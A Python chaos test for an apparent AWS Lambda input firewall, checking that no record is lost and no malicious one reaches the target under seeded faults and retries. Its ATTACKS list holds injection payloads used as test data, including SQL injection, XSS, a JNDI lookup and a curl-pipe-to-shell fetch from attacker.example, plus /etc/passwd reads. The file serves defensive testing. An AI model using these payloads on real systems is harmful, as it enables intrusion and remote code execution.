"""Fault injection: thousands of records through the firewall while the target crashes, reports
partial failures and is throttled, and the quarantine bucket refuses writes, at random (seeded).
Failed records are delivered again the way AWS does it until everything settles; then the
accounting must show that nothing was lost and no malicious record ever reached the target.

SQS: real message shapes from a moto queue (a template received from it, then one record per
message with its own id, body and timestamp); failed message ids come back in a later batch of 10,
with `ApproximateReceiveCount` raised. DynamoDB: real stream records of a moto table; the poller
retries from the reported SequenceNumber, as Lambda does for a stream.
"""

from __future__ import annotations

import copy
import json
import random
import uuid
from collections import deque
from collections.abc import Callable
from typing import Any

import pytest
from fw_functional import QUARANTINE, Account, Harness, md5

from firewall.local.targets import Throttled

SEED = 20261129
SQS_MESSAGES = 1_500
STREAM_RECORDS = 600
MALICIOUS_SHARE = 0.25
STREAM_BATCH = 50
ROUTE = "chaos"

CUSTOMERS = ["ada", "grace", "linus", "barbara", "edsger", "margaret", "ken", "dennis", "radia", "frances"]
NOTES = [
    "gift wrap please",
    "leave at the front door",
    "call on arrival",
    "second floor, blue door",
    "no rush",
    "thanks!",
    "deliver after 6pm; ring twice",
    "O'Brien & Sons, unit 4",
    "50% off coupon applied",
    "size: M/L",
]
ATTACKS = [
    "1' UNION SELECT username, password FROM users--",
    "<script>alert(document.cookie)</script>",
    "${jndi:ldap://attacker.example/a}",
    "../../../../etc/passwd",
    "; cat /etc/passwd",
    '{{config.__class__.__init__.__globals__["os"].popen("id").read()}}',
    "<img src=x onerror=alert(1)>",
    "$(curl http://attacker.example/x.sh | sh)",
]


class Chaos:
    """The seeded faults, and what the target really accepted (ground truth for the accounting)."""

    def __init__(self, rng: random.Random) -> None:
        self.rng = rng
        self.seen: set[str] = set()
        """Every record id the target was ever given, even in an invoke that then failed."""
        self.accepted: set[str] = set()
        """Record ids the target processed successfully."""
        self.faults = {"raised": 0, "throttled": 0, "partial": 0, "quarantine_refused": 0}

    def target(self, event: dict[str, Any]) -> Any:
        records = event["Records"]
        stream = "dynamodb" in records[0]
        ids = [r["dynamodb"]["SequenceNumber"] if stream else r["messageId"] for r in records]
        self.seen.update(ids)
        roll = self.rng.random()
        if roll < 0.08:
            self.faults["raised"] += 1
            raise RuntimeError("chaos: the target crashed")
        if roll < 0.16:
            self.faults["throttled"] += 1
            raise Throttled
        if roll < 0.30:
            self.faults["partial"] += 1
            if stream:  # a stream consumer reports the first record it could not process
                first = self.rng.randrange(len(ids))
                self.accepted.update(ids[:first])
                return {"batchItemFailures": [{"itemIdentifier": ids[first]}]}
            failed = {i for i in ids if self.rng.random() < 0.3} or {ids[0]}
            self.accepted.update(set(ids) - failed)
            return {"batchItemFailures": [{"itemIdentifier": i} for i in ids if i in failed]}
        self.accepted.update(ids)
        return None

    def refuse_put(self, _params: dict[str, Any]) -> bool:
        refused = self.rng.random() < 0.10
        self.faults["quarantine_refused"] += refused
        return refused


def order(rng: random.Random, index: int, malicious: bool) -> dict[str, Any]:
    body: dict[str, Any] = {
        "orderId": f"C-{index:05d}",
        "customer": rng.choice(CUSTOMERS),
        "items": [{"sku": f"sku-{rng.randrange(1000)}", "qty": rng.randrange(1, 5)}],
        "note": rng.choice(NOTES),
    }
    if malicious:
        where = rng.choice(["note", "customer", "items"])
        attack = rng.choice(ATTACKS)
        if where == "items":
            body["items"].append({"sku": attack, "qty": 1})
        else:
            body[where] = attack
    return body


def sqs_records(aws: Account, rng: random.Random) -> tuple[list[dict[str, Any]], set[str]]:
    """SQS_MESSAGES records in Lambda's shape, modelled on a message received from a real queue."""
    template = aws.sqs_event([json.dumps(order(rng, 0, False))], name="chaos")["Records"][0]
    sent = int(template["attributes"]["SentTimestamp"])
    records, malicious = [], set()
    for index in range(SQS_MESSAGES):
        bad = rng.random() < MALICIOUS_SHARE
        body = json.dumps(order(rng, index, bad))
        record = copy.deepcopy(template)
        record["messageId"] = str(uuid.UUID(int=rng.getrandbits(128), version=4))
        record["receiptHandle"] = f"AQEB{rng.getrandbits(256):064x}"
        record["body"] = body
        record["md5OfBody"] = md5(body)
        record["attributes"]["SentTimestamp"] = str(sent + index)
        records.append(record)
        if bad:
            malicious.add(record["messageId"])
    return records, malicious


def stream_records(aws: Account, rng: random.Random) -> tuple[list[dict[str, Any]], set[str]]:
    """STREAM_RECORDS records of a real table's stream, in Lambda's shape."""
    items, bad_keys = [], set()
    for index in range(STREAM_RECORDS):
        bad = rng.random() < MALICIOUS_SHARE
        body = order(rng, index, bad)
        key = f"order-{index:05d}"
        items.append(
            {
                "pk": {"S": key},
                "customer": {"S": body["customer"]},
                "note": {"S": body["note"]},
                "items": {"L": [{"M": {"sku": {"S": i["sku"]}, "qty": {"N": str(i["qty"])}}} for i in body["items"]]},
            }
        )
        if bad:
            bad_keys.add(key)
    records = aws.dynamodb_event(items, name="chaos")["Records"]
    assert len(records) == STREAM_RECORDS
    malicious = {r["dynamodb"]["SequenceNumber"] for r in records if r["dynamodb"]["Keys"]["pk"]["S"] in bad_keys}
    return records, malicious


def test_random_faults_lose_nothing(
    aws: Account, make_firewall: Callable[..., Harness], capsys: pytest.CaptureFixture[str]
) -> None:
    rng = random.Random(SEED)
    fw = make_firewall(route=ROUTE)
    chaos = Chaos(rng)
    fw.target.behaviour = chaos.target
    fw.fail_s3("PutObject", chaos.refuse_put)

    queue_records, queue_malicious = sqs_records(aws, rng)
    stream, stream_malicious = stream_records(aws, rng)
    everything = {r["messageId"] for r in queue_records} | {r["dynamodb"]["SequenceNumber"] for r in stream}
    malicious = queue_malicious | stream_malicious
    clean = everything - malicious
    assert len(everything) == SQS_MESSAGES + STREAM_RECORDS >= 2_000
    retried = deliveries = 0

    # SQS standard: batches of 10; a failed message becomes visible again and comes in a later batch.
    queue = deque(queue_records)
    for _ in range(10_000):
        if not queue:
            break
        batch = [queue.popleft() for _ in range(min(10, len(queue)))]
        deliveries += len(batch)
        response = fw.handle({"Records": batch})
        failed = {item["itemIdentifier"] for item in response["batchItemFailures"]}
        assert failed <= {r["messageId"] for r in batch}
        for record in batch:
            if record["messageId"] in failed:
                again = copy.deepcopy(record)
                again["attributes"]["ApproximateReceiveCount"] = str(
                    int(record["attributes"]["ApproximateReceiveCount"]) + 1
                )
                again["receiptHandle"] = f"AQEB{rng.getrandbits(256):064x}"
                queue.append(again)
                retried += 1
    assert not queue, "the queue did not drain"

    # DynamoDB stream: a failure reports one SequenceNumber; the poller retries from that record.
    position = attempts = 0
    while position < len(stream):
        attempts += 1
        assert attempts < 2_000, "the stream did not make progress"
        batch = stream[position : position + STREAM_BATCH]
        deliveries += len(batch)
        response = fw.handle({"Records": batch})
        failures = response["batchItemFailures"]
        if not failures:
            position += len(batch)
            continue
        assert len(failures) == 1
        sequence = [r["dynamodb"]["SequenceNumber"] for r in batch]
        first = sequence.index(failures[0]["itemIdentifier"])
        retried += len(batch) - first
        position += first

    quarantined = {key.rsplit("/", 1)[1].removesuffix(".json") for key in aws.quarantine_keys(ROUTE)}
    forwarded = chaos.accepted & everything
    lost = len(everything - forwarded - quarantined)
    with capsys.disabled():
        print(
            f"\nsent={len(everything)} forwarded={len(forwarded)} quarantined={len(quarantined)} "
            f"retried={retried} lost={lost}"
        )

    assert lost == 0
    assert clean <= chaos.accepted, "every clean record reached the target at least once"
    assert quarantined == malicious, "every malicious record is in quarantine, and only those"
    assert not chaos.seen & malicious, "no malicious record ever reached the target"
    assert all(count > 0 for count in chaos.faults.values()), chaos.faults
    assert retried > 0
    assert len(fw.record_lines()) == deliveries, "one audit line per record delivered"
    for key in sorted(aws.quarantine_keys(ROUTE))[:: max(1, len(quarantined) // 5)]:
        envelope = json.loads(aws.s3.get_object(Bucket=QUARANTINE, Key=key)["Body"].read())
        assert envelope["route"] == ROUTE and envelope["status"] == "pending"
        assert envelope["verdict"]["detected"] and envelope["record_id"] in malicious
